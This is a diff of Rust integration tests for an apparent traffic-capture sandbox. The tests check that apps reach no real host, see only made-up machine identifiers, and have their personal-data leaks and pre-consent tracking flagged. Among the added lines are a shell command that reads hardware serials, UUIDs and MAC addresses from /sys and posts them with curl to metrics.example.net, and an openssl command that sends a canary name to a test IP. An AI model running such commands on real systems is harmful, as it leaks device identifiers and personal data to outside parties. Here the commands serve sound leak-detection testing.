@@ -143,7 +143,8 @@ fn nobody_is_called_whatever_is_asked() {
     }
     let dir = tempfile::tempdir().unwrap();
     let out = dir.path().join("run");
-    let script = "curl -s -m 5 -x http://proxy.example.net:8080 https://example.org/ ; \
+    let script = "printf '\\001\\002 Someone Special\\n' | timeout 3 openssl s_client -connect 198.51.100.8:5223 & \
+                  curl -s -m 5 -x http://proxy.example.net:8080 https://example.org/ ; \
                   curl -s -m 5 -x http://192.0.2.1:8080 http://example.org/through ; \
                   curl -s -m 5 -d url=https://example.org/hook http://192.0.2.1/webhook ; \
                   curl -s -m 5 -H 'Host: example.org' --http1.1 https://192.0.2.7/ ; \
@@ -165,7 +166,7 @@ fn nobody_is_called_whatever_is_asked() {
     }
     nothing_leaves(&out);
     let bundle = Bundle::open(&out.join("bundle")).unwrap();
-    let spoken = bundle.records.iter().find_map(|r| match &r.body {
+    let mut spoken = bundle.records.iter().filter_map(|r| match &r.body {
         Body::Sent { remote, data, .. } => Some((remote.clone(), data.0.clone())),
         _ => None,
     });
@@ -173,7 +174,16 @@ fn nobody_is_called_whatever_is_asked() {
         "198.51.100.7:5222".to_owned(),
         b"hello, who is there?\n".to_vec(),
     );
-    assert_eq!(spoken, Some(expected));
+    assert!(spoken.any(|one| one == expected), "{}", said.err);
+    // What is no HTTP and went by TLS is looked through as well.
+    if !common::installed("openssl") {
+        return skip("openssl is not installed");
+    }
+    let bundle = out.display().to_string();
+    let canary = ["--canary", "real-name=Someone Special"];
+    let again = run(&[&["flows", "--format", "json", &bundle][..], &canary].concat());
+    let found = escaped(&json(&again));
+    assert!(found.iter().any(|one| one[0] == "real-name"), "{found:?}");
 }
 
 /// Every packet at the peer's end of the stage is the app's or an answer to it: each connection was opened by the
@@ -285,6 +295,52 @@ fn all_that_an_app_can_learn_of_the_machine_is_found_where_it_is_told_and_nowher
     assert_eq!(escaped(&flows), [] as [[String; 3]; 0]);
 }
 
+/// Files of `/sys` in which a machine's own numbers stand.
+const NUMBERS: &str = "/sys/block/*/serial /sys/block/*/device/serial /sys/block/*/wwid /sys/class/nvme/*/serial \
+    /sys/class/dmi/id/*_serial /sys/class/dmi/id/product_uuid /sys/bus/usb/devices/*/serial \
+    /sys/class/power_supply/*/serial_number /sys/class/net/*/address /sys/devices/virtual/net/*/address \
+    /sys/devices/pci*/*/net/*/address /sys/devices/pci*/*/*/net/*/address /sys/devices/platform/*/net/*/address";
+
+/// An app that reads all of them tells what was made up, and nothing of this machine.
+#[test]
+fn numbers_in_sys_are_made_up() {
+    if !common::installed("curl") {
+        skip("curl is not installed");
+        return;
+    }
+    let read = format!("cat {NUMBERS} 2>/dev/null");
+    let own = std::process::Command::new("sh")
+        .args(["-c", &read])
+        .output();
+    let own = String::from_utf8_lossy(&own.expect("a shell").stdout).into_owned();
+    let script = format!(
+        "({read}; echo the end) | curl -s -m 5 --data-binary @- http://metrics.example.net/"
+    );
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join("run");
+    let Some(said) = on_sink(&out, &["--", "/bin/sh", "-c", &script]) else {
+        return;
+    };
+    let flows = json(&said);
+    let body = flows["sent"][0]["body"].as_str().unwrap_or_default();
+    assert!(body.ends_with("the end\n"), "{body:?}");
+    // Loopback has none on any machine.
+    let is_told = |number: &&str| number.len() > 3 && *number != "00:00:00:00:00:00";
+    let own: BTreeSet<&str> = own.lines().map(str::trim).filter(is_told).collect();
+    let told: BTreeSet<&str> = body.lines().map(str::trim).collect();
+    let shared: Vec<_> = told.intersection(&own).collect();
+    assert!(shared.is_empty(), "{shared:?}");
+    let found: BTreeSet<String> = escaped(&flows).into_iter().map(|[name, ..]| name).collect();
+    assert!(found.contains("MAC address"), "{found:?}: {body}");
+    if std::process::Command::new("sh")
+        .args(["-c", "cat /sys/block/*/serial"])
+        .output()
+        .is_ok_and(|out| !out.stdout.is_empty())
+    {
+        assert!(found.contains("disk serial"), "{found:?}: {body}");
+    }
+}
+
 /// (Name, moments) of each receiver beyond the stage.
 fn moments(flows: &Value) -> BTreeSet<(String, Vec<String>)> {
     let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
@@ -322,7 +378,29 @@ fn what_a_page_tells_before_anybody_agreed_is_told_from_what_it_tells_after() {
         .chain([at("example.org", "before_consent")])
         .collect();
     assert_eq!(found, all, "{}", said.err);
-    let twin = format!("{recipe}:asks-first");
+    // Its twin tells nobody before, and has its button in a frame of another site.
+    let twin = format!("{recipe}:framed");
     let said = on_sink(&dir.path().join("twin"), &[&twin]).expect("there was a stage before");
     assert_eq!(moments(&json(&said)), BTreeSet::from(after), "{}", said.err);
+}
+
+#[test]
+#[ignore = "a browser more: cargo xtask flows --truth"]
+fn firefox_presses_a_button_in_a_frame_of_another_site() {
+    if !common::installed("firefox-esr") || !common::installed("Xvfb") {
+        skip("firefox-esr or Xvfb is not installed");
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let recipe = test_recipe("site-firefox");
+    let Some(said) = on_sink(&dir.path().join("run"), &[&recipe]) else {
+        return;
+    };
+    let after = ("example.net".to_owned(), vec!["after_consent".to_owned()]);
+    assert_eq!(
+        moments(&json(&said)),
+        BTreeSet::from([after]),
+        "{}",
+        said.err
+    );
 }
